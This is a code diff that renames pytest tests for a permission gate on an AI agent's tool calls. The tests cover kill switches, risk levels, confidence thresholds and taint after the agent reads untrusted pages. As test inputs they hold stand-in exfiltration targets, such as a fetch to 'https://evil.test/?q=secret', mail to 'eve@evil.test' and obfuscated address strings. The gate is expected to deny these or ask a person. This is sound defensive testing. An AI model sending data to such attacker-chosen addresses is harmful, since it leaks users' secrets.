@@ -60,7 +60,7 @@ def test_nothing_is_done_that_an_operator_has_stopped(kind):
     assert said(action, situation("mail ada@example.org", stopped="by eva")) == (Deny, "kill_switch")
 
 
-def test_what_cannot_be_carried_out_is_denied_with_what_to_do():
+def test_an_impossible_call_is_denied_with_a_remedy():
     unknown = ErrorInfo(code="unknown_tool", message="there is no tool `sendmail`", suggested_action="`send_email`?")
     not_there = Action(ActionKind.TOOL_CALL, "c", "unknown", invalid=unknown)
     assert authorize(not_there, situation()) == Deny("permission", unknown)
@@ -165,7 +165,7 @@ def test_a_place_that_the_task_mentions_and_does_not_ask_for_needs_a_person(text
     assert said(call(to=["ada@example.org"]), situation(text, origins=PAGE)) == (Ask, "taint")
 
 
-def test_one_place_of_several_that_nobody_named_is_enough_to_ask():
+def test_one_unnamed_destination_among_several_is_enough_to_ask():
     action = call(to=["ada@example.org", "eve@evil.test"])
     verdict = authorize(action, situation("mail ada@example.org", origins=PAGE))
     assert isinstance(verdict, Ask)
@@ -184,7 +184,7 @@ def test_of_a_tool_that_declares_nothing_no_task_permits_a_call_by_its_text():
     assert said(call(UNDECLARED, note=" ", sure=True), situation(task, origins=PAGE)) == (Ask, "taint")
 
 
-def test_an_address_the_model_made_up_after_reading_is_not_gone_to_and_the_model_is_told_what_to_do():
+def test_an_address_the_model_invented_after_reading_is_refused_with_a_remedy():
     verdict = authorize(call(FETCH, url="https://evil.test/?q=secret"), situation("sum up", origins=PAGE))
     assert isinstance(verdict, Deny)
     assert (verdict.rule, verdict.error.code) == ("taint", "untrusted_destination")
@@ -232,7 +232,7 @@ def test_an_address_is_gone_to_that_others_have_chosen_or_before_anything_was_re
         "https://[bad",
     ],
 )
-def test_what_only_resembles_a_named_address_or_a_link_is_not_gone_to(url):
+def test_an_address_that_only_resembles_a_named_one_or_a_link_is_refused(url):
     at = situation("sum up what a.example says", origins=PAGE, pages=[Page("a.example", LINK)])
     assert said(call(FETCH, url=url), at) == (Deny, "taint")
 
@@ -267,7 +267,7 @@ def test_the_letters_of_a_link_are_not_chosen_by_who_follows_it():
 @pytest.mark.parametrize(
     "text", ["www.evil.test/?d=s", "s.evil.test", "http:evil/s", "//evil/s", "\\\\evil\\s", "see eve@evil.test"]
 )
-def test_what_may_lead_somewhere_is_a_place_for_a_tool_that_says_nothing_of_places(text):
+def test_any_address_in_the_arguments_is_a_destination_if_the_tool_declares_none(text):
     reader = Some("web__get", Risk.LOW, Effect.READ, destinations=None)
     assert said(call(reader, query=text), situation(origins=PAGE)) == (Deny, "taint")
     assert said(call(reader, query=text), situation(origins=PAGE, links=[f"so: {text}"])) == (Allow, "risk")
@@ -307,7 +307,7 @@ def test_the_operators_list_names_places_too():
     ("risk", "expected"),
     [(Risk.LOW, Allow), (Risk.MEDIUM, Allow), (Risk.HIGH, Ask), (Risk.CRITICAL, Ask)],
 )
-def test_what_a_risk_leads_to_where_the_task_names_nothing(risk, expected):
+def test_each_risk_has_its_verdict_if_the_task_names_no_destination(risk, expected):
     assert said(call(replace(Some(), risk=risk), to=["x"]), situation()) == (expected, "risk")
 
 
@@ -340,14 +340,14 @@ def test_a_step_that_is_planned_as_risky_raises_the_risk_of_what_changes_somethi
         ({}, {"to": [f"a{n}" for n in range(6)]}),
     ],
 )
-def test_what_moves_much_counts_as_one_risk_higher(magnitudes, arguments):
+def test_a_large_magnitude_raises_the_risk_by_one_level(magnitudes, arguments):
     tool = replace(Some(), risk=Risk.MEDIUM, magnitudes=magnitudes)
     assert authorize(call(tool, **({"to": "x"} | arguments)), situation()).rule == "risk"
     assert isinstance(authorize(call(tool, **({"to": "x"} | arguments)), situation()), Ask)
     assert isinstance(authorize(call(tool, to="x", amount=100, ids=[1]), situation()), Allow)
 
 
-def test_who_is_not_sure_asks_before_what_cannot_be_undone_and_reads_freely():
+def test_an_unsure_agent_asks_before_irreversible_calls_and_reads_freely():
     named = situation("mail ada@example.org", confidence=0.49)
     assert said(call(to=["ada@example.org"]), named) == (Ask, "confidence")
     assert said(call(to=["ada@example.org"]), replace(named, confidence=0.5)) == (Allow, "risk")
@@ -399,7 +399,7 @@ def test_a_digest_is_of_one_call_of_one_work_alone():
     st.text(max_size=200),
     st.floats(0, 1),
 )
-def test_whatever_is_asked_for_the_gate_answers_and_a_risky_deed_never_goes_to_an_unnamed_place_after_reading(
+def test_the_gate_answers_every_call_and_never_allows_a_risky_one_to_an_unnamed_destination_after_reading(
     risk, effect, destinations, to, text, confidence
 ):
     tool = Some("t", risk, effect, destinations=destinations)
